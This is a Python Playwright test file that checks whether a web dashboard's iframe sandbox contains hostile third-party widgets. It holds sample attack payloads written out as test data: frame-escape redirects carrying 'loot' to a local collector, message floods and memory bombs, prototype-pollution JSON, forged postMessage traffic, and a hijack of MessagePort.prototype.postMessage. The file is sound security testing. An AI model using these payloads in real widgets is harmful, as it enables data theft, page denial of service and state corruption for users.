"""A hostile widget that is not trusted: what it tries in its frame, and what the page does about it."""

from __future__ import annotations

import json
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from e2e.store.collector import Collector, collecting
from e2e.store.conftest import Store
from e2e.store.registry import Registry
from e2e.workspaces import widget, workspace

TRIES = Path(__file__).with_name("hostile.js").read_text()
SHOW = """
Octopus.registerWidget({ key: KEY, label: KEY, component: () => {
  const [report, setReport] = React.useState(null);
  React.useEffect(() => { tryAll().then(setReport); }, []);
  return React.createElement("pre", null, report ? JSON.stringify(report) : "trying");
} });
"""


@pytest.fixture
def collector() -> Iterator[Collector]:
    with collecting() as running:
        yield running


def frame(page: Page, key: str) -> Any:
    return page.frame_locator(f'iframe[title="{key} (isolated)"]')


def run(source: str) -> str:
    """A bundle of some statements."""
    return f"(() => {{ {source} }})();"


def when_drawn(key: str, effect: str) -> str:
    """A bundle whose widget says something and then does something."""
    return run(
        f"""Octopus.registerWidget({{ key: "{key}", label: "{key}", component: () => {{
          React.useEffect(() => {{
            const go = () => {{ {effect} }}, timer = setTimeout(go, 300);
            return () => clearTimeout(timer);
          }}, []);
          return React.createElement("p", null, "harmless");
        }} }});"""
    )


def test_a_hostile_widget_gets_nothing_and_sends_nothing(
    open_page: Callable[..., Page],
    admin: BrowserContext,
    octopus: Store,
    registry: Registry,
    collector: Collector,
    complaints: list[str],
) -> None:
    text = run(f'const KEY = "Magpie";{TRIES.replace("__COLLECTOR__", collector.url)}{SHOW}')
    registry.publish("@guest/magpie", "1.0.0", text=text)
    registry.publish("@guest/finch", "1.0.0", says="it sings")
    for name in ("@guest/magpie", "@guest/finch"):
        octopus.add(admin, name)
    page = open_page(
        "", "viewer", workspace("Birds", widget("Finch", "Finch"), widget("Magpie", "Magpie", (8, 0, 8, 8)))
    )
    report = frame(page, "Magpie").locator("pre")
    expect(report).to_contain_text("{")
    got = {name: value for name, value in json.loads(report.inner_text()).items() if value is not None}
    assert got == {}
    assert collector.wait(0.5) == []
    assert len(page.context.pages) == 1 and page.url.startswith(octopus.home)
    expect(frame(page, "Finch").get_by_text("it sings")).to_be_visible()
    with urllib.request.urlopen(f"{collector.url}/control"):  # On loopback: what does arrive is heard.
        assert collector.wait(1) == ["GET /control HTTP/1.1"]
    assert any("connect-src 'none'" in each for each in complaints)
    complaints.clear()


def test_a_widget_that_leaves_its_frame_is_ended_and_takes_nothing_along(
    open_page: Callable[..., Page],
    admin: BrowserContext,
    octopus: Store,
    registry: Registry,
    collector: Collector,
    complaints: list[str],
) -> None:
    ways = {
        "Swift": f"location = '{collector.url}/swift?loot=1'",
        "Stork": "location.replace('data:text/html,<script>top.postMessage(1, \"*\")</script>')",
        "Tern": "location.assign('/graphql?query=%7B__typename%7D')",
    }
    for key, way in ways.items():
        registry.publish(f"@guest/{key.lower()}", "1.0.0", text=when_drawn(key, way))
        octopus.add(admin, f"@guest/{key.lower()}")
    shown = [widget(key, key, (8 * at, 0, 8, 8)) for at, key in enumerate(ways)]
    page = open_page("", "viewer", workspace("Birds", *shown))
    left = page.get_by_text("tried to leave its frame and was ended")
    expect(left).to_have_count(3)
    assert page.locator("iframe").count() == 0
    # Chromium opens a connection ahead of asking whether it may: nothing is sent over it.
    assert set(collector.wait(0.3)) <= {"a connection"} and page.url.startswith(octopus.home)
    page.get_by_role("article", name="Stork").get_by_role("button", name="Run it again").click()
    expect(frame(page, "Stork").get_by_text("harmless")).to_be_visible()
    expect(left).to_have_count(3)
    complaints.clear()


HANGS = run("""Octopus.registerWidget({ key: "Owl", label: "Owl", component: () => null }); for (;;);""")


def test_an_endless_loop_ends_its_own_widget_and_the_others_go_on(
    open_page: Callable[..., Page], admin: BrowserContext, octopus: Store, registry: Registry
) -> None:
    registry.publish("@guest/wren", "1.0.0", says="it sings on")
    registry.publish("@observatory/robin", "1.0.0", text=COUNTS)
    registry.publish("@guest/owl", "1.0.0", text=HANGS)
    for name in ("@guest/wren", "@observatory/robin"):
        octopus.add(admin, name)
    shown = [widget(key, key, (8 * at, 0, 8, 8)) for at, key in enumerate(("Wren", "Robin", "Owl"))]
    page = open_page("", "viewer", workspace("Birds", *shown))
    sings = frame(page, "Wren").get_by_text("it sings on")
    expect(sings).to_be_visible()
    octopus.add(admin, "@guest/owl")
    counted = page.get_by_test_id("frames")
    expect(page.get_by_text("This isolated widget did not answer and was ended.")).to_be_visible(timeout=25_000)
    assert int(counted.inner_text()) > 100, "frames of the screen that a widget of the page drew meanwhile"
    expect(sings).to_be_visible()


COUNTS = run(
    """Octopus.registerWidget({ key: "Robin", label: "Robin", component: () => {
      const [frames, setFrames] = React.useState(0);
      React.useEffect(() => {
        const drawn = requestAnimationFrame(() => setFrames(frames + 1));
        return () => cancelAnimationFrame(drawn);
      });
      return React.createElement("output", { "data-testid": "frames" }, frames);
    } });"""
)


FLOODS = {
    "Gull": "for (let i = 0; i < 20000; i++) port.postMessage(JSON.stringify({ t: 'cursor', time: i }));",
    "Crow": "for (let i = 0; i < 20000; i++) top.postMessage({ octopus: i, loot: 'x'.repeat(100) }, '*');",
    "Rook": "port.postMessage(JSON.stringify({ t: 'notify', text: 'x'.repeat(40000000) }));",
    "Jay": "port.postMessage(Array.from({ length: 300000 }, (_, i) => ({ [i]: {} })));",
}
"""What floods the page; `port` is the runtime's own, which a bundle can lay hands on; React has others."""
CATCH = """
const post = MessagePort.prototype.postMessage; let port = null;
MessagePort.prototype.postMessage = function (...given) {
  if (typeof given[0] === "string") port = this;
  return post.apply(this, given);
};
"""


def test_floods_and_bombs_end_their_widget_while_the_page_draws_on(
    open_page: Callable[..., Page], admin: BrowserContext, octopus: Store, registry: Registry, complaints: list[str]
) -> None:
    registry.publish("@observatory/heron", "1.0.0", text=COUNTS.replace("Robin", "Heron"))
    octopus.add(admin, "@observatory/heron")
    for key, flood in FLOODS.items():
        registry.publish(f"@guest/{key.lower()}", "1.0.0", text=run(CATCH + when_drawn(key, flood)))
        octopus.add(admin, f"@guest/{key.lower()}")
    shown = [widget(key, key, (6 * at, 8, 6, 8)) for at, key in enumerate(FLOODS)]
    page = open_page("", "viewer", workspace("Birds", widget("Heron", "Heron"), *shown))
    page.evaluate(
        """() => { globalThis.longest = 0; let last = performance.now();
        const look = (now) => { longest = Math.max(longest, now - last); last = now; requestAnimationFrame(look); };
        requestAnimationFrame(look); }"""
    )
    for key in FLOODS:
        ended = page.get_by_role("article", name=key).get_by_text("flooded the page with messages and was paused")
        expect(ended, key).to_be_visible(timeout=10_000)
    assert page.locator("iframe").count() == 0
    longest = page.evaluate("longest")
    print("longest frame", longest)
    assert longest < 4_000, "milliseconds between two frames of the page, on however slow a machine"


FORGES = """
const evil = ["__proto__", "constructor"].map((key) => `{"t":"persist","key":"${key}","value":{"polluted":1}}`);
for (const text of [...evil, '{"t":"__proto__"}',
  '{"t":"ask","id":{},"text":7}', '{"t":"wishes","wishes":{"length":9}}',
  '{"t":"told","notices":[{"__proto__":{"polluted":1}}],"pasts":[],"streams":[]}', '{"t":"set","name":"theme"}',
  '{"t":"workspace","id":"elsewhere"}', '{"t":"defined","def":{"key":"AttributeDisplay"}}', '[]', '{}',
  '{"t":"variable","key":"station","value":"99"}', '{"t":"answer","id":1,"data":{}}']) port.postMessage(text);
for (let at = 0; at < parent.length; at++)
  parent[at].postMessage({ t: "start", instanceId: "x", key: "Dove", seen: {} }, "*", [new MessageChannel().port1]);
top.postMessage("octopus-frame", "*", [new MessageChannel().port1]);
"""


def test_forged_messages_reach_neither_the_page_nor_other_widgets(
    open_page: Callable[..., Page], admin: BrowserContext, octopus: Store, registry: Registry
) -> None:
    registry.publish("@guest/cuckoo", "1.0.0", text=run(CATCH + when_drawn("Cuckoo", FORGES)))
    registry.publish("@guest/dove", "1.0.0", says="it coos")
    for name in ("@guest/cuckoo", "@guest/dove"):
        octopus.add(admin, name)
    nest = workspace(
        "Nest", widget("Dove", "Dove"), widget("Cuckoo", "Cuckoo", (8, 0, 8, 8)), variables={"station": "1"}
    )
    page = open_page("", "viewer", nest, workspace("Elsewhere"))
    told = page.get_by_role("article", name="Cuckoo").get_by_role("list", name="Errors of this widget's data")
    expect(told).to_contain_text("asked for setting the variable “station”; granted: no variables.")
    expect(frame(page, "Dove").get_by_text("it coos")).to_be_visible()
    expect(page.get_by_role("heading", name="Nest")).to_be_attached()
    assert page.evaluate("({}).polluted === undefined && ([]).polluted === undefined")
